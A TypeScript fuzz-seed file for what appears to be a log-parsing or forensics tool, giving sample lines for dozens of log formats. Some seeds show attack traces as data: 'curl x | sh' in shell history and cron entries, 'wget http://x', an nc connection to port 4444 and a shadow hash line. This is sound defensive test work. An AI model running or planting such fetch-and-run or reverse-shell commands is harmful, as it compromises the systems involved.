/**
 * A few lines of each line format, by its id: what mutation starts from, since the interesting mistakes lie near what is right.
 * Every registered line format must have some (a test holds that), and must recognise them.
 */
export const fuzzSeeds: Readonly<Record<string, readonly string[]>> = {
  "defender-mplog": [
    "2026-03-01T02:14:07.123Z DETECTION_ADD#1 Trojan:Win32/X file:C:\\a.exe",
    "2026-03-01T02:14:07.123Z [RTP] [Mini-filter] x",
  ],
  "journal-json": [
    '{"__REALTIME_TIMESTAMP":"1772331247000000","__CURSOR":"s=1","_HOSTNAME":"web","SYSLOG_IDENTIFIER":"sshd","_PID":"7","MESSAGE":[70,97]}',
  ],
  "journal-verbose": [
    "Sun 2026-03-01 02:14:07.123456 UTC [s=0639;i=6d;b=4f;m=1;t=5;x=6]",
    "    _HOSTNAME=web",
    "    SYSLOG_IDENTIFIER=sshd",
    "    MESSAGE=Failed password for root from 203.0.113.9 port 4 ssh2",
    "            more",
  ],
  dnf: [
    "2026-03-01T02:14:07+0800 DEBUG Command: dnf install nmap",
    "2026-03-01T02:14:09+0800 INFO Installed: nmap-7.9",
  ],
  "kernel-ring": [
    "[    1.234567] eth0: entered promiscuous mode",
    '[Sun Mar  1 02:14:07 2026] audit: type=1400 audit(1772331247.1:2): apparmor="DENIED" pid=7',
  ],
  softether: [
    '2026-03-01 02:14:07.123 Connection "CID-72": User authentication failed. The user name that has been provided was "eve", from 203.0.113.9.',
    '2026-03-01 02:14:08.001 On the TCP Listener (Port 443), a Client (IP address 203.0.113.9, Host name "x", Port number 4711) has connected.',
  ],
  dropbear: [
    "[1335] Mar  1 02:14:07 Bad password attempt for 'root' from 203.0.113.9:49332",
    "Exit before auth from <203.0.113.9:35928>: (user 'root', 2 fails): Max auth tries reached",
  ],
  samba: [
    "[2026/03/01 02:14:07.123456,  2] ../../source3/auth/auth.c:334(auth_check_ntlm_password)",
    "  check_ntlm_password:  Authentication for user [eve] -> [eve] FAILED with error NT_STATUS_WRONG_PASSWORD",
  ],
  auditd: [
    'type=SYSCALL msg=audit(1772331247.123:77): arch=c000003e syscall=59 success=yes exit=0 a0=1 ppid=1 pid=2 auid=0 uid=0 comm="sh" exe="/bin/sh" key="x"',
    'type=EXECVE msg=audit(1772331247.123:77): argc=3 a0="sh" a1="-c" a2=6964',
    'type=PATH msg=audit(1772331247.123:77): item=0 name="/bin/sh" nametype=NORMAL',
    'type=USER_AUTH msg=audit(1772331248.000:78): pid=7 uid=0 msg=\'op=password acct="root" exe="/usr/sbin/sshd" addr=192.0.2.9 res=failed\'',
  ],
  laurel: [
    '{"ID":"1772331247.843:30826","NODE":"web-01","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"ppid":1,"pid":2,"auid":1000,"uid":0,"ses":5,"comm":"sh","exe":"/bin/sh","key":"x","SYSCALL":"execve","AUID":"oracle","UID":"root","ARGV":["0x1"],"PPID":{"comm":"bash","exe":"/bin/bash"}},"EXECVE":{"argc":2,"ARGV":["sh","-c id"]},"PATH":[{"name":"/bin/sh","nametype":"NORMAL"}],"PROCTITLE":{"ARGV":["sh","-c id"]}}',
    '{"ID":"1772331248.1:2","USER_LOGIN":{"pid":9,"acct":"root","exe":"/usr/sbin/sshd","addr":"192.0.2.9","res":"failed"}}',
  ],
  "windows-event-xml": [
    '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4625</EventID><TimeCreated SystemTime="2026-03-01T02:14:07.1234567Z"/><Channel>Security</Channel><Computer>pc</Computer></System><EventData><Data Name="TargetUserName">a</Data><Data Name="LogonType">3</Data><Data Name="IpAddress">192.0.2.9</Data></EventData></Event>',
    '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><EventID Qualifiers="0">1</EventID>',
    '<Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><UserData><a b="c">&lt;&#65;<![CDATA[x]]></a></UserData></Event>',
  ],
  "zsh-history": [": 1772331247:0;ls \\", "-la", ": 1772331248:12;curl x | sh"],
  "fish-history": ["- cmd: ls", "  when: 1772331247", "  paths:", "    - /tmp"],
  dpkg: [
    "2026-03-01 02:14:07 install nmap:amd64 <none> 7.9",
    "2026-03-01 02:14:07 status half-installed nmap:amd64 7.9",
  ],
  pacman: [
    "[2026-03-01T02:14:07+0800] [ALPM] installed nmap (7.9-1)",
    "[2026-03-01 02:14] [PACMAN] Running 'pacman -S nmap'",
  ],
  yum: ["Mar 01 02:14:07 Installed: nmap-7.9-1.x86_64", "2026-03-01T02:14:07+0800 SUBDEBUG Installed: nmap-7.9"],
  "apt-history": [
    "Start-Date: 2026-03-01  02:14:07",
    "Commandline: apt install nmap",
    "Requested-By: eve (1000)",
    "Install: nmap:amd64 (7.9)",
    "Error: x",
    "End-Date: 2026-03-01  02:14:09",
  ],
  "zypper-history": [
    "2026-03-01 02:14:07|install|nmap|7.9-1|x86_64|root@web|repo|abc|",
    "2026-03-01 02:14:07|command|root@web|'zypper' 'in'|",
  ],
  "pve-firewall": [
    "0 3 PVEFW-HOST-IN 20/Jun/2022:13:09:14 +0200 policy DROP: IN=vmbr0 SRC=203.0.113.9 DST=192.0.2.1 PROTO=TCP SPT=1 DPT=22",
  ],
  syslog: [
    "Mar  1 02:14:07 web sshd[7]: Failed password for invalid user a b from 203.0.113.9 port 4 ssh2",
    '<38>1 2026-03-01T02:14:07.123456+08:00 web sshd 7 ID [a b="c\\]"] Accepted publickey for x from 2001:db8::1 port 22 ssh2: RSA SHA256:a',
    "Mar  1 02:14:07 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'a ; b'",
    "Mar  1 02:14:07 web kernel: [ 8.1] IN=eth0 OUT= SRC=203.0.113.9 DST=192.0.2.1 PROTO=TCP SPT=1 DPT=22",
    "Mar  1 02:14:07 web postfix/smtpd[9]: warning: unknown[192.0.2.9]: SASL LOGIN authentication failed: x",
    "web sshd[7]: message repeated 2 times: [ Failed password for root from 203.0.113.9 port 1 ssh2]",
    "Mar  1 02:14:07 web CRON[1]: (root) CMD (curl x | sh)",
  ],
  "passwd-file": ["root:x:0:0:root:/root:/bin/bash"],
  "shadow-file": ["root:$6$a$bcdefgh:20513:0:99999:7:::"],
  "group-file": ["sudo:x:27:alice,eve"],
  crontab: ["*/5 * * * 1-5 root curl x | sh", "@reboot /tmp/x", "PATH=/bin"],
  "authorized-keys": [
    `from="192.0.2.1",command="a \\"b\\"" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${"A".repeat(43)} eve@x`,
  ],
  sudoers: ["root ALL=(ALL:ALL) NOPASSWD: ALL", "Defaults env_reset", "%wheel ALL=/bin/sh, !/bin/su"],
  "systemd-unit": ["[Unit]", "Description=x", "[Service]", "ExecStart=/bin/sh -c \\", "  x", "[Install]"],
  bodyfile: ["0|/tmp/x|263|-rwxr-xr-x|0|0|3072|1772331247|1772331247|1772331300|0"],
  "file-list": [
    "/tmp:",
    "total 8",
    "-rwsr-xr-x 1 root root 123 Mar  1 02:14 a -> b",
    "  263 4 -rwxr-xr-x 1 eve eve 3072 Feb 28 2024 /dev/shm/x",
  ],
  "ps-capture": [
    "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND",
    "root 1 0.0 0.1 1 2 ? Ss Mar01 0:01 /sbin/init",
  ],
  "socket-capture": [
    "Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port Process",
    'tcp ESTAB 0 0 192.0.2.1:22 203.0.113.9:40022 users:(("sshd",pid=700,fd=3))',
  ],
  "lsof-capture": [
    "COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME",
    "nc 701 eve 3u IPv4 12346 0t0 TCP 192.0.2.1:51000->203.0.113.9:4444 (ESTABLISHED)",
  ],
  "login-capture": [
    "root     pts/0        203.0.113.9      Sun Mar  1 02:14 - 02:20  (00:06)",
    "root     pts/0        2026-03-01 02:14 (203.0.113.9)",
  ],
  "w-capture": [
    "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT",
    "root pts/0 203.0.113.9 02:14 1.00s 0.01s 0.00s bash -i",
  ],
  viminfo: [
    "# This viminfo file was generated by Vim 8.0.",
    ":q!",
    '|2,0,1493487327,,"q!"',
    "'0  1  0  /etc/passwd",
    '|4,48,1,0,1493487327,"/etc/passwd"',
  ],
  "sql-history": ["_HiStOrY_V2_", "select\\040*\\040from\\040users;", "show databases;"],
  "python-history": ["_HiStOrY_V2_", "import os", "os.system('id')", "x = 1"],
  "bash-history": ["#1772331247", "ls -la", "wget http://x"],
  "nginx-access": [
    '192.0.2.4 - u [18/Jan/2024:15:31:16 +0100] "GET /a?b HTTP/1.1" 404 187 "-" "curl/8.1" "203.0.113.9"',
  ],
  "apache-access": [
    'h:443 192.0.2.4 - - [18/Jan/2024:15:31:16 +0100] "POST /a HTTP/1.1" 200 -',
    '192.0.2.4 - - [18/Jan/2024:15:31:16 +0100] "GET / HTTP/1.0" 200 1',
  ],
  "nginx-error": [
    '2015/01/21 10:56:10 [error] 28#0: *16 open() "/x" failed (2: No such file), client: 192.0.2.4, server: a, request: "GET /x HTTP/1.1", host: "b"',
  ],
  "apache-error": [
    '[Sat Jul 20 21:39:11.978080 2013] [auth_basic:error] [pid 1:tid 2] [client 192.0.2.4:51390] AH01617: user u: authentication failure for "/b": Password Mismatch',
  ],
  haproxy: [
    '192.0.2.4:50033 [28/Feb/2025:02:43:10.123] f b/s 1/0/1/0/2 403 5168 - - ---- 3/3/0/0/0 0/0 "GET / HTTP/1.1"',
  ],
  "iis-w3c": [
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip sc-status",
    "2024-01-18 15:31:16 192.0.2.1 GET /a x=1 192.0.2.4 404",
  ],
  asterisk: [
    "[2026-03-01 02:14:07] NOTICE[7] chan_sip.c: Registration from '<sip:1@x>' failed for '192.0.2.9:5060' - Wrong password",
  ],
  bind: [
    "01-Mar-2026 02:14:07.123 security: info: client 192.0.2.9#53 (x.example): query (cache) 'x.example/A/IN' denied",
  ],
  nsd: ["[1772331247] nsd[7]: info: ratelimit block x type any target 192.0.2.0/24 query 192.0.2.9 TYPE255"],
  unbound: ["[1772331247] unbound[7:0] info: 192.0.2.9 x.example. A IN"],
  dovecot: [
    "Mar 01 02:14:07 imap-login: Info: Aborted login (auth failed, 1 attempts in 2 secs): user=<a>, method=PLAIN, rip=192.0.2.9, lip=192.0.2.1",
  ],
  exim: [
    "2026-03-01 02:14:07 dovecot_login authenticator failed for (x) [192.0.2.9]: 535 Incorrect authentication data (set_id=a)",
    "2026-03-01 02:14:07 1abcde-000123-45 <= a@b.c H=x [192.0.2.9] P=esmtp S=1",
  ],
  fail2ban: ["2024-01-18 15:31:16,123 fail2ban.actions [1]: NOTICE [sshd] Ban 192.0.2.4"],
  freeswitch: [
    "2026-03-01 02:14:07.123456 [WARNING] sofia_reg.c:1533 SIP auth failure (REGISTER) on sofia profile 'internal' for [1@x] from ip 192.0.2.9",
  ],
  "mongodb-text": [
    "2026-03-01T02:14:07.123+0800 I ACCESS   [conn7] SCRAM-SHA-1 authentication failed for a on admin from client 192.0.2.9:4711 ; UserNotFound: x",
  ],
  mssql: ["2026-03-01 02:14:07.12 Logon       Login failed for user 'sa'. Reason: x [CLIENT: 192.0.2.9]"],
  mysql: [
    "2026-03-01T02:14:07.123456Z 7 [Note] Access denied for user 'root'@'192.0.2.9' (using password: YES)",
    "130324  0:04:00 [Warning] Access denied for user 'root'@'192.0.2.4' (using password: NO)",
  ],
  openvpn: [
    "Sun Mar  1 02:14:07 2026 192.0.2.9:4711 TLS Auth Error: Auth Username/Password verification failed for peer",
    "2026-03-01 02:14:07 192.0.2.9:4711 TLS Error: TLS handshake failed",
  ],
  postgresql: ['2026-03-01 02:14:07.123 UTC [7] a@b FATAL:  password authentication failed for user "a"'],
  redis: [
    "7:M 01 Mar 2026 02:14:07.123 # Possible SECURITY ATTACK detected. Connection aborted.",
    "7:M 01 Mar 2026 02:14:07.123 * Accepted 192.0.2.9:4711",
  ],
  xrdp: ["[20260301-02:14:07] [INFO ] AUTHFAIL: user=a ip=::ffff:192.0.2.9 time=1772331247"],
  vsftpd: ['Sun Mar  1 02:14:07 2026 [pid 7] [a] FAIL LOGIN: Client "192.0.2.9"'],
  xferlog: ["Sun Mar  1 02:14:07 2026 1 192.0.2.9 123 /a/b c b _ i r eve ftp 0 * c"],
  "suricata-eve": [
    '{"timestamp":"2024-01-18T15:31:16.123456+0100","event_type":"alert","src_ip":"192.0.2.4","src_port":1,"dest_ip":"192.0.2.1","alert":{"signature":"x","signature_id":1}}',
  ],
  "wazuh-alerts-json": [
    '{"timestamp":"2024-01-18T15:31:16.123+0100","rule":{"level":5,"description":"x","id":"5710"},"agent":{"id":"1","name":"web"},"manager":{"name":"m"},"data":{"srcip":"192.0.2.9"}}',
  ],
  caddy: [
    '{"level":"error","ts":1711741827.9626286,"logger":"http.log.access","msg":"handled request","request":{"client_ip":"192.0.2.9","proto":"HTTP/1.1","method":"GET","host":"h","uri":"/?q","headers":{"User-Agent":["curl/7"]}},"status":401}',
  ],
  "traefik-json": [
    '{"ClientHost":"192.0.2.9","ClientUsername":"-","DownstreamStatus":200,"RequestMethod":"GET","RequestPath":"/a","RequestProtocol":"HTTP/1.1","StartUTC":"2024-01-18T15:31:16.5Z"}',
  ],
  "modsecurity-audit-json": [
    '{"transaction":{"client_ip":"192.0.2.9","time_stamp":"Thu Jan 18 15:31:16 2024","request":{"method":"GET","uri":"/?a","headers":{"Host":"h"}},"response":{"http_code":403},"messages":[{"message":"LFI","details":{"ruleId":"930120"}}]}}',
  ],
  "kubernetes-audit": [
    '{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"1","stage":"ResponseComplete","requestURI":"/api","verb":"create","user":{"username":"a"},"sourceIPs":["192.0.2.9"],"objectRef":{"resource":"pods"},"responseStatus":{"code":403},"requestReceivedTimestamp":"2024-01-18T15:31:16.123456Z","stageTimestamp":"2024-01-18T15:31:16.123456Z"}',
  ],
  "aws-cloudtrail": [
    '{"Records":[{"eventVersion":"1","eventSource":"s","awsRegion":"r","eventName":"n","eventTime":"2024-01-18T15:31:16Z","userIdentity":{"userName":"a"},"sourceIPAddress":"192.0.2.9"}]}',
  ],
  "aliyun-actiontrail": [
    '{"eventId":"1","eventVersion":"1","eventSource":"ecs.aliyuncs.com","eventName":"n","eventTime":"2024-01-18T15:31:16Z","acsRegion":"cn-x","serviceName":"Ecs","userIdentity":{"userName":"a"},"sourceIpAddress":"192.0.2.9"}',
  ],
  "mongodb-json": [
    '{"t":{"$date":"2026-03-01T02:14:07.123+08:00"},"s":"I","c":"ACCESS","id":20249,"ctx":"conn7","msg":"Authentication failed","attr":{"mechanism":"x","principalName":"a","remote":"192.0.2.9:4711"}}',
  ],
  "docker-json": ['{"log":"hello from 192.0.2.9\\n","stream":"stdout","time":"2026-03-01T02:14:07.123456789Z"}'],
  "containerd-cri": [
    "2024-01-18T15:31:16.123456789Z stdout F hello from 192.0.2.4",
    "2024-01-18T15:31:16.123456789Z stderr P part",
  ],
  "zeek-ascii": [
    "#separator \\x09",
    "#path\tconn",
    "#fields\tts\tuid\tid.orig_h\tid.orig_p",
    "#types\ttime\tstring\taddr\tport",
    "1700000000.123456\tCabc\t192.0.2.4\t4711",
  ],
  "zeek-json": [
    '{"ts":1700000000.123456,"uid":"Cabc","id.orig_h":"192.0.2.4","id.orig_p":4711,"id.resp_h":"192.0.2.1","id.resp_p":80,"proto":"tcp","_path":"conn"}',
  ],
  "ids-fast-alert": ["01/18-15:31:16.123456 [**] [1:2:3] name [**] [Priority: 1] {TCP} 192.0.2.4:1 -> 192.0.2.5:2"],
  "ossec-alerts": [
    "** Alert 1510376401.12: mail  - syslog,authentication_failed,",
    "2017 Nov 11 02:00:01 web->/var/log/auth.log",
    "Rule: 5402 (level 3) -> 'Failed'",
    "Src IP: 192.0.2.9",
    "x",
  ],
  "ossec-windows": [
    "2014 Dec 20 14:29:48 (web-01) 192.0.2.9->WinEvtLog 2014 Dec 20 09:29:47 WinEvtLog: Microsoft-Windows-Sysmon/Operational: INFORMATION(1): Microsoft-Windows-Sysmon: SYSTEM: NT AUTHORITY: PC: Process Create:  Image: C:\\a.exe  CommandLine: a -b  ProcessId: 7",
    "2014 Dec 20 09:29:47 WinEvtLog: Security: AUDIT_FAILURE(4625): Microsoft-Windows-Security-Auditing: (no user): no domain: PC: x  Source Network Address: 192.0.2.9",
  ],
  cef: ["CEF:0|v|p|1|100|Login failed|5|src=192.0.2.4 suser=a b msg=c\\=d rt=1700000000000"],
  leef: ["LEEF:2.0|v|p|1|100|^|src=192.0.2.4^usrName=a^devTime=Mar 01 2026 02:14:07"],
  clamav: ["Sun Mar  1 02:14:07 2026 -> /tmp/x: Eicar-Signature FOUND"],
  clamscan: ["/tmp/x: Eicar-Signature FOUND", "----------- SCAN SUMMARY -----------", "Infected files: 1"],
  chkrootkit: ["ROOTDIR is `/'", "Checking `ls'... INFECTED", "Searching for suspicious files, it may take a while..."],
  "lynis-report": [
    "# Lynis Report",
    "report_datetime_start=2026-03-01 02:14:07",
    "hostname=web",
    "warning[]=SSH-7408|x|-|-|",
    "suggestion[]=a|b|",
  ],
  rkhunter: [
    "[14:03:10] Running Rootkit Hunter version 1.4.6 on web",
    "[14:03:11] Info: Start date is Thu Jan 18 14:03:11 UTC 2024",
    "[14:03:12] Warning: Hidden file found: /dev/.x",
  ],
  "modsecurity-audit": [
    "--0a1b2c3d-A--",
    "[18/Jan/2024:15:31:16 +0100] YVW7 192.0.2.9 50001 192.0.2.1 80",
    "--0a1b2c3d-B--",
    "GET /?a HTTP/1.1",
    "Host: h",
    "--0a1b2c3d-H--",
    'Message: Access denied with code 403 [id "1"]',
    "--0a1b2c3d-Z--",
  ],
  "php-error": [
    "[18-Jan-2024 15:31:16 UTC] PHP Warning:  include(/x): failed in /var/www/a.php on line 3",
    "[18-Jan-2024 15:31:16 Europe/Berlin] PHP Fatal error:  x",
  ],
  "tomcat-catalina": [
    "01-Mar-2026 02:14:07.123 WARNING [http-nio-8080-exec-1] org.apache.catalina.realm.LockOutRealm.filterLockedAccounts x",
    "Mar 01, 2026 2:14:07 AM org.apache.catalina.core.X log",
    "INFO: x",
  ],
  "squid-access": ["1772331247.123    99 192.0.2.9 TCP_DENIED/403 1 CONNECT x:443 a HIER_NONE/- text/html"],
  "web-access-custom": [
    'h 192.0.2.9 [18/Jan/2024:15:31:16 +0100] "GET /a HTTP/1.1" 200 1 0.1',
    '{"a":1} 192.0.2.9 "GET /a HTTP/1.1" 200',
  ],
  csv: ["time,user,ip", '2024-01-18T15:31:16Z,"a ""b""",192.0.2.4', "2024-01-18T15:31:17Z,b,192.0.2.5"],
  "json-lines": ['{"time":"2024-01-18T15:31:16Z","msg":"a","remote_ip":"192.0.2.9"}', "[", '{"time":1}', "]"],
  logfmt: ['time="2024-01-18T15:31:16Z" level=error msg="login failed" remote_addr=192.0.2.4 user="a b"'],
  "timed-text": ["2026-03-01 02:14:07,123 x user a from 192.0.2.9", "Mar  1 02:14:07 x", "1772331247 y"],
};
